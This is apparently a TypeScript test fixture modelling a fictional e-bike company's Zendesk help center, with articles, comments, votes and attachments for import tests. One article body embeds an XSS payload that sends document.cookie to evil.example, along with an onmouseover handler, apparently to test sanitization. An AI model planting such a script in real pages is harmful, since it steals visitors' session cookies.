import { promises as fs } from 'node:fs';
import path from 'node:path';

/*
 * A small Zendesk Guide help center (a fictional e-bike maker's) in the API's own JSON
 * shapes: what the fake server serves and what folder tests write to disk.
 */

export interface Fixture {
  users: Array<Record<string, unknown>>;
  categories: Array<Record<string, unknown>>;
  sections: Array<Record<string, unknown>>;
  articles: Array<Record<string, unknown>>;
  comments: Map<number, Array<Record<string, unknown>>>;
  articleVotes: Map<number, Array<Record<string, unknown>>>;
  commentVotes: Map<number, Array<Record<string, unknown>>>;
  attachments: Map<number, Array<Record<string, unknown>>>;
  /** Bytes the fake server answers at /hc/article_attachments/<id>/<name> (others: 404). */
  files: Map<string, Buffer>;
}

// a real 1×1 PNG (the file service sniffs the type from the bytes)
export const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
export const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

const T = (d: number, h = 9) => new Date(Date.UTC(2024, 2, d, h, 15, 0)).toISOString().replace('.000Z', 'Z');

export const ADMIN = 360000000001;
export const AGENT = 360000000002;
export const MEMBERS = [360000000101, 360000000102, 360000000103, 360000000104, 360000000105];
export const UNKNOWN_USER = 360000009999;

export const CAT_RIDING = 360000100001;
export const CAT_ACCOUNT = 360000100002;
export const SEC_BATTERY = 360000200001;
export const SEC_MOTOR = 360000200002;
export const SEC_NESTED = 360000200003;
export const SEC_BILLING = 360000200004;
export const ART_CHARGE = 360001234567;
export const ART_RANGE = 360001234568;
export const ART_DRAFT = 360001234569;
export const ART_ORPHAN = 360001234570;
export const ART_SCRIPT = 360001234571;
export const ART_INVOICE = 360001234572;

const CHARGE_BODY = `<h2>Before you start</h2>
<p>Your Velora battery ships at about 40&nbsp;% charge. Charge it fully before your first ride; it takes <strong>4 to 5 hours</strong> with the standard charger.</p>
<ol>
<li>Switch the bike off and open the charging port cover.</li>
<li>Plug the charger into the wall <em>first</em>, then into the battery.</li>
<li>The LED turns <strong>green</strong> when the battery is full.</li>
</ol>
<p><img src="/hc/article_attachments/360009876543/charging-port.png" alt="Charging port on the down tube"></p>
<p><img src="/hc/article_attachments/360009876544/led-colours.png" alt="LED colours"> <img src="https://cdn.velora.example/img/charger.jpg" alt="The charger"></p>
<h3>Charging times</h3>
<table><thead><tr><th>Battery</th><th>Standard charger</th><th>Fast charger</th></tr></thead>
<tbody><tr><td>500 Wh</td><td>4 h</td><td>2.5 h</td></tr><tr><td>625 Wh</td><td>5 h</td><td>3 h</td></tr></tbody></table>
<blockquote><p>Never charge below 0&nbsp;°C or above 40&nbsp;°C.</p></blockquote>
<p>Still stuck? See <a href="/hc/en-us/articles/360001234568-How-far-can-I-ride-on-one-charge">How far can I ride on one charge?</a> or <a href="https://velora.example/support">contact us</a>.</p>`;

const RANGE_BODY = `<p>Range depends on the assist level, the terrain, your weight and the temperature.</p>
<ul><li><strong>Eco:</strong> up to 120 km</li><li><strong>Tour:</strong> about 80 km</li><li><strong>Turbo:</strong> about 45 km</li></ul>
<p>To check your remaining range, hold the <code>i</code> button for two seconds:</p>
<pre><code>Display → Trip → Range</code></pre>`;

export function buildFixture(HOST = 'https://velora.zendesk.com'): Fixture {
  const user = (id: number, name: string, email: string | null, role: string, d: number) => ({
    id, url: `${HOST}/api/v2/users/${id}.json`, name, email, role, created_at: T(d), updated_at: T(d + 1), active: true, locale: 'en-US', time_zone: 'Amsterdam',
  });
  const users = [
    user(ADMIN, 'Ines Vermeer', 'ines@velora.example', 'admin', 1),
    user(AGENT, 'Tomás Reyes', 'tomas@velora.example', 'agent', 1),
    user(MEMBERS[0], 'Priya Nair', 'priya.nair@mail.example', 'end-user', 2),
    user(MEMBERS[1], 'Jonas Berg', 'jonas.berg@mail.example', 'end-user', 2),
    user(MEMBERS[2], 'Aiko Tanaka', 'aiko@mail.example', 'end-user', 3),
    user(MEMBERS[3], 'Lea Fischer', 'lea.fischer@mail.example', 'end-user', 3),
    user(MEMBERS[4], 'No Address', null, 'end-user', 4),
  ];
  const structure = (id: number, name: string, description: string, position: number, extra: Record<string, unknown> = {}) => ({
    id, name, description, position, locale: 'en-us', source_locale: 'en-us', outdated: false,
    html_url: `${HOST}/hc/en-us/${'category_id' in extra ? 'sections' : 'categories'}/${id}-${name.replace(/\W+/g, '-')}`,
    created_at: T(1), updated_at: T(2), ...extra,
  });
  const categories = [
    structure(CAT_RIDING, 'Riding and charging', 'Everything about the battery, the motor and your first ride.', 0),
    structure(CAT_ACCOUNT, 'Orders and account', '', 1),
  ];
  const sections = [
    structure(SEC_BATTERY, 'Battery', 'Charging, storage and range.', 0, { category_id: CAT_RIDING, parent_section_id: null }),
    structure(SEC_MOTOR, 'Motor and display', '', 1, { category_id: CAT_RIDING, parent_section_id: null }),
    structure(SEC_NESTED, 'Error codes', 'Codes shown on the display.', 2, { category_id: CAT_RIDING, parent_section_id: SEC_MOTOR }),
    structure(SEC_BILLING, 'Billing', '', 0, { category_id: CAT_ACCOUNT, parent_section_id: null }),
  ];
  const article = (id: number, title: string, section: number, author: number, body: string, extra: Record<string, unknown> = {}) => ({
    id, url: `${HOST}/api/v2/help_center/en-us/articles/${id}.json`, html_url: `${HOST}/hc/en-us/articles/${id}-${title.replace(/\W+/g, '-')}`,
    author_id: author, comments_disabled: false, draft: false, promoted: false, position: 0, vote_sum: 0, vote_count: 0, section_id: section,
    created_at: T(5), updated_at: T(6), edited_at: T(6), name: title, title, source_locale: 'en-us', locale: 'en-us', outdated: false,
    label_names: [], body, ...extra,
  });
  const articles = [
    // 4 votes: 3 up, 1 down → vote_sum 2, "3 out of 4 found this helpful"
    article(ART_CHARGE, 'How do I charge the battery?', SEC_BATTERY, AGENT, CHARGE_BODY, { promoted: true, position: 1, vote_sum: 2, vote_count: 4, label_names: ['battery', 'Charging', 'first ride'] }),
    article(ART_RANGE, 'How far can I ride on one charge?', SEC_BATTERY, ADMIN, RANGE_BODY, { position: 2, comments_disabled: true, vote_sum: -1, vote_count: 1 }),
    article(ART_DRAFT, 'Replacing the brake pads', SEC_MOTOR, AGENT, '<p>Draft: photos to come.</p>', { draft: true }),
    article(ART_ORPHAN, 'An article in a section that is gone', 360000299999, AGENT, '<p>Lost.</p>'),
    article(ART_SCRIPT, 'What does error E07 mean?', SEC_NESTED, UNKNOWN_USER, '<p>E07: the speed sensor lost the magnet.</p><script>document.location="https://evil.example/?c="+document.cookie</script><p onmouseover="alert(1)">Realign the magnet on the spoke.</p>'),
    article(ART_INVOICE, 'Where do I find my invoice?', SEC_BILLING, ADMIN, '<p>Invoices are under <strong>Account → Orders</strong>.</p>'),
  ];
  const comment = (id: number, articleId: number, author: number, body: string, d: number, votes: [number, number] = [0, 0]) => ({
    id, url: `${HOST}/api/v2/help_center/articles/${articleId}/comments/${id}.json`, html_url: `${HOST}/hc/en-us/articles/${articleId}/comments/${id}`,
    body, author_id: author, source_id: articleId, source_type: 'Article', locale: 'en-us', created_at: T(d, 10), updated_at: T(d, 10),
    vote_sum: votes[0] - votes[1], vote_count: votes[0] + votes[1],
  });
  const comments = new Map<number, Array<Record<string, unknown>>>([
    [ART_CHARGE, [
      comment(360100000001, ART_CHARGE, MEMBERS[0], '<p>Can I leave it plugged in overnight?</p>', 7, [2, 0]),
      comment(360100000002, ART_CHARGE, AGENT, '<p>Yes: the charger stops at 100&nbsp;%. For storage over winter keep it at <strong>60&nbsp;%</strong>.</p>', 8, [1, 1]),
      comment(360100000003, ART_CHARGE, MEMBERS[1], '<p>My LED blinks red, what now?</p>', 9),
      comment(360100000004, ART_CHARGE, UNKNOWN_USER, '<p>Same here.</p>', 10),
    ]],
    [ART_RANGE, [comment(360100000005, ART_RANGE, MEMBERS[2], '<p>I get 95 km in Eco on flat roads.</p>', 9)]],
  ]);
  const vote = (id: number, itemId: number, type: string, userId: number, value: number) => ({
    id, url: `${HOST}/api/v2/help_center/votes/${id}.json`, user_id: userId, value, item_id: itemId, item_type: type, created_at: T(11), updated_at: T(11),
  });
  const articleVotes = new Map<number, Array<Record<string, unknown>>>([
    [ART_CHARGE, [
      vote(360200000001, ART_CHARGE, 'Article', MEMBERS[0], 1),
      vote(360200000002, ART_CHARGE, 'Article', MEMBERS[1], 1),
      vote(360200000003, ART_CHARGE, 'Article', MEMBERS[2], -1),
      vote(360200000004, ART_CHARGE, 'Article', MEMBERS[3], 1),
      vote(360200000005, ART_CHARGE, 'Article', UNKNOWN_USER, 1), // by a user nobody has: a warning
    ]],
    [ART_RANGE, [vote(360200000006, ART_RANGE, 'Article', MEMBERS[0], -1)]],
  ]);
  const commentVotes = new Map<number, Array<Record<string, unknown>>>([
    [360100000001, [vote(360300000001, 360100000001, 'Comment', MEMBERS[1], 1), vote(360300000002, 360100000001, 'Comment', MEMBERS[2], 1)]],
    [360100000002, [vote(360300000003, 360100000002, 'Comment', MEMBERS[0], 1), vote(360300000004, 360100000002, 'Comment', MEMBERS[3], -1)]],
  ]);
  const attachment = (id: number, name: string, type: string, inline: boolean) => ({
    id, url: `${HOST}/api/v2/help_center/articles/attachments/${id}.json`, article_id: ART_CHARGE, file_name: name, content_type: type, size: 68, inline,
    content_url: `${HOST}/hc/article_attachments/${id}/${name}`, created_at: T(5), updated_at: T(5),
  });
  const attachments = new Map<number, Array<Record<string, unknown>>>([
    [ART_CHARGE, [attachment(360009876543, 'charging-port.png', 'image/png', true), attachment(360009876545, 'battery-care.pdf', 'application/pdf', false)]],
  ]);
  // led-colours.png (360009876544) is not there: a 404, a warning, the old address kept
  const files = new Map<string, Buffer>([
    ['/hc/article_attachments/360009876543/charging-port.png', PNG],
    ['/hc/article_attachments/360009876545/battery-care.pdf', PDF],
  ]);
  return { users, categories, sections, articles, comments, articleVotes, commentVotes, attachments, files };
}

/** The fixture as a folder of API pages (`pageSize` items each), the layout FolderSource reads. */
export async function writeFolder(dir: string, f: Fixture, pageSize = 2): Promise<void> {
  const write = async (sub: string, key: string, items: unknown[]) => {
    await fs.mkdir(path.join(dir, sub), { recursive: true });
    for (let i = 0, n = 1; i < items.length; i += pageSize, n++) {
      const hasMore = i + pageSize < items.length;
      const page = { [key]: items.slice(i, i + pageSize), meta: { has_more: hasMore, after_cursor: hasMore ? `c${n}` : null, before_cursor: null }, links: { next: null, prev: null } };
      await fs.writeFile(path.join(dir, sub, `${String(n).padStart(4, '0')}.json`), JSON.stringify(page));
    }
  };
  await write('users', 'users', f.users);
  await write('categories', 'categories', f.categories);
  await write('sections', 'sections', f.sections);
  await write('articles', 'articles', f.articles);
  for (const [a, list] of f.comments) await write(`articles/${a}/comments`, 'comments', list);
  for (const [a, list] of f.articleVotes) await write(`articles/${a}/votes`, 'votes', list);
  for (const [a, list] of f.attachments) await write(`articles/${a}/attachments`, 'article_attachments', list);
  for (const [c, list] of f.commentVotes) {
    const articleId = [...f.comments].find(([, cs]) => cs.some((x) => x.id === c))![0];
    await write(`articles/${articleId}/comments/${c}/votes`, 'votes', list);
  }
}
